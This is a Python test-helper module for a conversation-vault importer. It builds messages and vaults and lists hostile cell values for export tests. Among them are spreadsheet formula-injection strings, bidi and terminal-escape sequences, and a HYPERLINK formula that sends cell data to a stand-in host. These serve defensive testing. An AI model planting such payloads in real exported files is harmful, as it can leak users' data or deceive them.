"""Talks of any shape for the kits' tests, brought to vaults and looked at."""

import shutil
import tempfile
from collections.abc import Callable, Iterable, Iterator
from contextlib import AbstractContextManager, contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from persona_vault.ingest import import_file, run
from persona_vault.ingest.ledger import ImportReport
from persona_vault.model import Conversation, Message, PersonaInput, Role, TimeQuality
from persona_vault.store.outgoing import read_outgoing
from persona_vault.store.reading import MessageFilter
from persona_vault.store.vault import Vault, open_vault

NewVault = Callable[[], AbstractContextManager[Vault]]
START = datetime(2024, 3, 1, 18, tzinfo=UTC)

# Cells that a spreadsheet would take for a formula, or for the start of another cell.
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
)
HOSTILE = (
    *FORMULAS,
    *(f"'{cell}" for cell in FORMULAS),
    *(f"''{cell}" for cell in FORMULAS),
    " =1",
    "\ufeff=1",
    "\u200b=1",
    "\u2212" + "1",
    "'",
    "''",
    "'tis",
    '"',
    '""',
    '","',
    "a\rb",
    "a\r\nb\n",
    "\n",
    "\r",
    "a;=1+1\tb",
    "\u202enihton\u2066",
    "\u2028\u2029\x85\x1c\x0b",
    "\x00a\x00",
    "\x1b]0;x\x07",
    "👩‍👧 e\u0301",
    "\ufdd0end\n",
    "{{char}} <START>",
    "sep=;",
    "",
    " ",
)


class Given:
    """An importer that gives what it was told to, and looks at no file."""

    name, version, app, tier = "given", 1, "given", "vendor"

    def __init__(self, records: Iterable[Message | PersonaInput]) -> None:
        self._records = list(records)

    def identify(self, *_: object) -> bool:
        """Always."""
        return True

    def read(self, *_: object) -> Iterator[Message | PersonaInput]:
        """The records."""
        yield from self._records


def keep(
    vault: Vault, records: Iterable[Message | PersonaInput], persona: str = "Wren"
) -> ImportReport:
    """Bring records to a vault as one source."""
    with (
        tempfile.TemporaryDirectory() as folder,
        pytest.MonkeyPatch.context() as patch,
    ):
        given = Given(records)
        patch.setattr(run, "find_importer", lambda *_: given)
        path = Path(folder) / f"given {id(given)}"
        path.write_text(repr(given._records), "utf-8", "backslashreplace")
        return import_file(vault, path, persona=persona)


def said(text: str, number: int = 0, **more: Any) -> Message:
    """A message of one endless talk, a minute after the one before."""
    facts: dict[str, Any] = {
        "conversation": Conversation(threaded=False),
        "role": Role.PERSONA if number % 2 else Role.USER,
        "speaker": "Wren" if number % 2 else "Sam",
        "sent_at": START + timedelta(minutes=number),
        "time_quality": TimeQuality.EXACT,
        "where": f"message {number}",
    }
    return Message(text=text, **(facts | more))


def talk(texts: Iterable[str], **more: Any) -> list[Message]:
    """Messages of both sides in turn."""
    return [said(text, number, **more) for number, text in enumerate(texts)]


def new_vaults(template: Path) -> NewVault:
    """Makes empty vaults, one for each call."""

    @contextmanager
    def make() -> Iterator[Vault]:
        with tempfile.TemporaryDirectory() as folder:
            shutil.copytree(template, Path(folder) / "vault")
            with open_vault(Path(folder) / "vault") as vault:
                vault.set_zone("Europe/Berlin")
                yield vault

    return make


def held(vault: Vault, *left_out: str) -> list[dict[str, Any]]:
    """Every message as the vault has it, without its own numbers."""
    with vault.read() as connection:
        found = list(read_outgoing(connection, MessageFilter(shown_only=False)))
    rows = []
    for outgoing in found:
        message, about = outgoing.message, outgoing.about
        row = {
            "app": message.app,
            "conversation": message.conversation,
            "threaded": message.threaded,
            "title": about.title,
            "group": about.group,
            "default_models": about.default_models,
            "role": message.role,
            "speaker": message.speaker,
            "text": message.text,
            "sent_at": message.sent_at,
            "local_at": message.local_at,
            "time_quality": message.time_quality,
            "zone": outgoing.zone,
            "kind": message.kind,
            "shown": message.shown,
            "flags": message.flags,
            "native_id": message.native_id,
            "parent": outgoing.parent,
            "models": message.models,
            "attachments": outgoing.attachments,
        }
        rows.append({key: row[key] for key in row if key not in left_out})
    return rows
